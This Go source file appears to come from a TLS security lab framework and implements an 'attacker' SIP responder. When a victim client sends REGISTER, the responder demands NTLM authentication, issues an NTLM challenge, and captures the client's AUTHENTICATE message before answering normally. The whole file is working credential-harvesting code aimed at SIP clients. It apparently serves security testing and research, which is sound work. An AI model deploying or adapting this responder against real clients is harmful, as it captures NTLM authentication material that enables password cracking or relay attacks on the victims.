package attacker

import (
	"encoding/binary"
	"fmt"

	sipgo "github.com/emiago/sipgo/sip"

	"github.com/tlslab/tlslab/actors/ntlm"
	"github.com/tlslab/tlslab/actors/sip"
)

// ntlmDemand is a SIPResponder's MS-SIPAE NTLM demand on one connection:
// the CHALLENGE it sent, and whether the victim has answered. Only the
// responder's goroutine touches it.
type ntlmDemand struct {
	srv    *ntlm.Server
	target string // targetname claimed

	challenge [8]byte
	sent      int  // CHALLENGEs sent, numbering the opaques
	answered  bool // an AUTHENTICATE arrived; the connection is "authenticated"
}

// answer returns the NTLM step's answer to req, or nil when req is to be
// answered 200 as usual: anything but a REGISTER, every request once the
// victim has answered, and the REGISTER carrying the AUTHENTICATE, after
// it went to the ntlm.Server. A nil demand answers nothing.
func (d *ntlmDemand) answer(req *sipgo.Request) *sipgo.Response {
	if d == nil || d.answered || req.Method != sipgo.REGISTER {
		return nil
	}
	offer := sip.NTLMAuth{Realm: sip.NTLMRealm, TargetName: d.target, Version: sip.NTLMVersion}
	var cred *sip.NTLMAuth
	for _, h := range req.GetHeaders("Authorization") {
		if a, err := sip.ParseNTLMAuth(h.Value()); err == nil {
			cred = &a
			break
		}
	}
	switch {
	case cred == nil:
		return unauthorized(req, offer)
	case ntlmType(cred.GSSAPIData) == 3 && d.sent > 0:
		d.answered = true
		_, _ = d.srv.Authenticate(cred.GSSAPIData, d.challenge) // OnCapture has it
		return nil
	}
	msg, challenge, err := d.srv.Challenge()
	if err != nil {
		return sipgo.NewResponseFromRequest(req, sipgo.StatusInternalServerError, "Server Internal Error", nil)
	}
	d.sent++
	d.challenge = challenge
	offer.Opaque, offer.GSSAPIData = fmt.Sprintf("%08X", d.sent), msg
	return unauthorized(req, offer)
}

// unauthorized is a 401 to req demanding offer.
func unauthorized(req *sipgo.Request, offer sip.NTLMAuth) *sipgo.Response {
	res := sipgo.NewResponseFromRequest(req, sipgo.StatusUnauthorized, "Unauthorized", nil)
	res.AppendHeader(sipgo.NewHeader("WWW-Authenticate", offer.String()))
	return res
}

// ntlmType is an NTLMSSP message's MessageType; 0 for anything else.
func ntlmType(msg []byte) uint32 {
	if len(msg) < 12 || string(msg[:8]) != "NTLMSSP\x00" {
		return 0
	}
	return binary.LittleEndian.Uint32(msg[8:12])
}
